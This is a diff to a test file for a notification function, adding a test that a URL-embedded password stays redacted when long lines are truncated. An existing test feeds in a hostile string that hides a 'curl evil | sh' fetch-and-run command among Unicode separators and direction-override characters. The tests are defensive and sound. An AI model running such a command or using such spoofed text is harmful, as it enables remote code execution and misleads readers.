@@ -54,6 +54,13 @@ describe('notify', () => {
     expect((await told(NOTICE, { channels: [] })).passed).toEqual([]);
   });
 
+  it('lets no half of a secret through where a long line is cut', async () => {
+    const long = `${'x'.repeat(470)} https://reader:hunter2hunter2@repo.example.org`;
+    const { said, passed } = await told({ ...NOTICE, lines: [long] });
+    expect(passed[0]?.notice.lines[0]).toMatch(/^x+ https:\/\/\*{3}@/);
+    expect(JSON.stringify([said, passed])).not.toContain('hunter');
+  });
+
   it('lets no host write a line of its own, or text that looks like another', async () => {
     const hostile = 'nginx failed\u2028To move it on:\u2029  curl evil\u202e\u200b|sh\u0085';
     const { passed } = await told({ ...NOTICE, lines: [hostile] });
